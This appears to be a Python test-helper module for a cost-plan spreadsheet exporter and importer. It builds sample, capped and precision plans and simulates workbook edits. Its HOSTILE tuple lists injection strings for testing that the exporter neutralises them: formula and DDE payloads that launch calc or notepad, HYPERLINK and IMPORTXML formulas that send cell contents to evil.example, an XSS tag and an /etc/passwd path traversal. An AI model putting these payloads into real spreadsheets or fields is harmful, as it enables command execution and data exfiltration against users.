"""Plans, hostile strings, workbook edits and cell reading shared by the export tests."""

from __future__ import annotations

import copy
import io
import json
import re
from typing import Any

import openpyxl

from exports.costs_import import _Reader
from schemas import Plan, load_plan
from tests.conftest import SAMPLE_PLAN

#: Hostile strings: spreadsheet formula / DDE injection, prefixes Excel or LibreOffice act on,
#: OOXML escape look-alikes, control characters, path tricks.
HOSTILE: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?x="&A1,"クリック")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "{=1+1}",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=SUM(A1:A9)",
    " =1+1",
    "＝１＋１",
    "'=1+1",
    "=cmd|'/C notepad'!'A1'",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "+1",
    "-1",
    "@",
    "=A1",
    "_x000D_=1+1",
    "_x0041_ literal",
    "a\x07b\x1fc",
    "<script>alert(1)</script> & \"quotes\" 'single'",
    "../../etc/passwd",
    "CON",
    "改行\r\nあり=1+1",
)


def sample_dict() -> dict[str, Any]:
    data: dict[str, Any] = json.loads(SAMPLE_PLAN.read_text(encoding="utf-8"))
    return data


def sample_plan() -> Plan:
    return load_plan(sample_dict())


def capped_plan() -> Plan:
    """The sample with every amount ×10: Σ floor(E_i × 2/3) exceeds the cap of 6 members."""
    d = sample_dict()
    for c in d["costs"]:
        if "unit_price_yen" in c:
            c["unit_price_yen"] *= 10
        if "hourly_rate_yen" in c:
            c["hourly_rate_yen"] *= 10
    return load_plan(d)


def precision_plan() -> Plan:
    """Amounts where LibreOffice 7.4's ROUNDDOWN(x,0) is off by one (values of 10^11 and more): the rate is
    1/2 (a large vendor), u2's eligible total is odd and above 2×10^11 (its subsidy ends in .5 before
    the floor), and a labour line of 180,340.64 h × ¥596,854."""
    d = sample_dict()
    next(m for m in d["members"] if m["id"] == "v2")["large_enterprise"] = True
    next(c for c in d["costs"] if c["id"] == "c8")["unit_price_yen"] = 249_330_918_309
    c9 = next(c for c in d["costs"] if c["id"] == "c9")
    c9["hours"] = "180340.64"
    c9["hourly_rate_yen"] = 596_854
    return load_plan(d)


def _valid_id(text: str, fallback: str) -> str:
    """``text`` when the schema takes it as an id (and it has no ``_xHHHH_``: LibreOffice's xlsx writer
    does not escape those, so its re-saved copy would not show such an id verbatim)."""
    ok = re.fullmatch(r"\S(.{0,62}\S)?", text) and not re.search(r"_x[0-9A-Fa-f]{4}_", text)
    return text if ok else fallback


def hostile_dict() -> dict[str, Any]:
    """The sample with a hostile string in every text field (and as ids where the schema allows)."""
    d = sample_dict()
    h = list(HOSTILE)

    def pick(i: int) -> str:
        return h[i % len(h)]

    d["consortium"]["name"] = pick(0)
    d["consortium"]["contact"] = {"company": pick(1), "title": pick(2), "name": pick(3), "address": pick(4),
                                  "email": "=1+1@evil.example", "phone": "03-0000-0000"}
    d["consortium"]["extra"] = {"note": pick(5)}
    renames: dict[str, str] = {}
    for i, m in enumerate(d["members"]):
        m["name"] = pick(6 + i)
        m["representative"] = pick(13 + i)
        m["address"] = pick(20 + i)
        m["extra"] = {"memo": pick(i)}
        new_id = _valid_id(pick(i + 2), m["id"])
        if new_id not in renames.values():
            renames[m["id"]] = new_id
    for i, t in enumerate(d["tools"]):
        t["name"] = pick(3 + i)
        t["description"] = pick(9 + i)
    d["tools"][0].pop("vendor")
    d["tools"][0]["external_vendor"] = pick(11)
    for i, integ in enumerate(d["integrations"]):
        integ["description"] = pick(14 + i)
    for i, mt in enumerate(d["meetings"]):
        mt["title"] = pick(17 + i)
    for i, s in enumerate(d["schedule"]):
        s["note"] = pick(19 + i)
    for i, c in enumerate(d["costs"]):
        c["description"] = pick(i)
        if "payee_external" in c:
            c["payee_external"] = pick(i + 5)
    # more lines, so that every hostile string is a cost description somewhere
    base = d["costs"][5]  # u1's meeting line
    for i in range(len(d["costs"]), len(h)):
        extra = copy.deepcopy(base)
        extra["id"] = _valid_id(pick(i), f"c{i + 1}")
        if any(extra["id"] == c["id"] for c in d["costs"]):
            extra["id"] = f"c{i + 1}"
        extra["description"] = pick(i)
        d["costs"].append(extra)
    d["kenpo_rates"] = {"title": pick(8), "rates": {"1": 1000}}
    # hostile member ids: rename every reference
    text = json.dumps(d, ensure_ascii=False)
    data: dict[str, Any] = json.loads(text)
    for old, new in renames.items():
        _rename(data, old, new)
    data["consortium"]["lead"] = renames.get("u1", "u1")
    return data


def _rename(d: dict[str, Any], old: str, new: str) -> None:
    for m in d["members"]:
        if m["id"] == old:
            m["id"] = new
    for t in d["tools"]:
        if t.get("vendor") == old:
            t["vendor"] = new
        t["users"] = [new if u == old else u for u in t.get("users", [])]
    for mt in d["meetings"]:
        mt["participants"] = [new if p == old else p for p in mt["participants"]]
    for c in d["costs"]:
        if c["member"] == old:
            c["member"] = new
        if c.get("payee") == old:
            c["payee"] = new


def hostile_plan() -> Plan:
    return load_plan(hostile_dict())


# ------------------------------------------------------------------------------------------------
# reading workbooks


def read_strings(data: bytes) -> _Reader:
    """A workbook's cells with every text decoded exactly (the importer's reader)."""
    return _Reader(data)


def rows_by_id(wb: openpyxl.Workbook, sheet: str, id_col: int = 1, header_row: int = 7) -> dict[str, int]:
    ws = wb[sheet]
    out: dict[str, int] = {}
    for r in range(header_row + 1, ws.max_row + 1):
        v = ws.cell(row=r, column=id_col).value
        if v == "合計":
            break
        if isinstance(v, str) and v:
            out[v] = r
    return out


def spare_row(wb: openpyxl.Workbook, sheet: str) -> int:
    """The first empty line row above 合計."""
    ws = wb[sheet]
    for r in range(8, ws.max_row + 1):
        if ws.cell(row=r, column=1).value == "合計":
            break
        if all(ws.cell(row=r, column=c).value in (None, "") for c in range(1, 7)):
            return r
    raise AssertionError("no spare row")


def edit_sample_workbook(data: bytes) -> bytes:
    """What a user does in Excel: change amounts and hours, delete, clear, fill and insert rows.

    See :data:`EDITED_EXPECTED` for the change report this must give.
    """
    wb = openpyxl.load_workbook(io.BytesIO(data))
    u1 = "経費内訳01"
    rows = rows_by_id(wb, u1)
    ws = wb[u1]
    ws.cell(row=rows["c2"], column=5).value = 2_000_000  # c2 単価
    ws.cell(row=rows["c5"], column=6).value = 130.5  # c5 時間
    for col in range(1, 7):  # c7: clear every input cell (a deletion as the sheet explains it)
        ws.cell(row=rows["c7"], column=col).value = None
    ws.delete_rows(rows["c6"])  # c6: delete the row
    ws.insert_rows(rows_by_id(wb, u1)["c1"])  # a new row above c1
    new_row = rows_by_id(wb, u1)["c1"] - 1
    for col, value in enumerate((None, 1, "ソフトウェア購入費", "追加ライセンス", 300_000, 1), start=1):
        ws.cell(row=new_row, column=col).value = value
    spare = spare_row(wb, u1)
    for col, value in enumerate((None, "STEP2", "旅費", None, "12,000", "2"), start=1):
        ws.cell(row=spare, column=col).value = value
    v1 = "経費内訳04"
    ws4 = wb[v1]
    ws4.cell(row=rows_by_id(wb, v1)["c13"], column=6).value = 100  # c13 時間
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def edited_expected_costs() -> list[dict[str, Any]]:
    d = sample_dict()
    costs = [c for c in d["costs"] if c["id"] not in ("c6", "c7")]
    by_id = {c["id"]: c for c in costs}
    by_id["c2"]["unit_price_yen"] = 2_000_000
    by_id["c5"]["hours"] = 130.5
    by_id["c13"]["hours"] = 100
    costs.append({"id": "c16", "member": "u1", "step": 1, "category": "software", "description": "追加ライセンス",
                  "unit_price_yen": 300_000, "quantity": 1})
    costs.append({"id": "c17", "member": "u1", "step": 2, "category": "travel",
                  "unit_price_yen": 12_000, "quantity": 2})
    return costs


#: (kind, line id, [(field, old, new)]) in report order (sheet order, then removals in plan order)
EDITED_EXPECTED: list[tuple[str, str, list[tuple[str, Any, Any]]]] = [
    ("added", "c16", [("step", None, 1), ("category", None, "software"), ("description", None, "追加ライセンス"),
                      ("unit_price_yen", None, 300_000), ("quantity", None, 1)]),
    ("changed", "c2", [("unit_price_yen", 2_400_000, 2_000_000)]),
    ("changed", "c5", [("hours", 120, "130.5")]),
    ("added", "c17", [("step", None, 2), ("category", None, "travel"), ("unit_price_yen", None, 12_000),
                      ("quantity", None, 2)]),
    ("changed", "c13", [("hours", 120, 100)]),
    ("removed", "c6", []),
    ("removed", "c7", []),
]
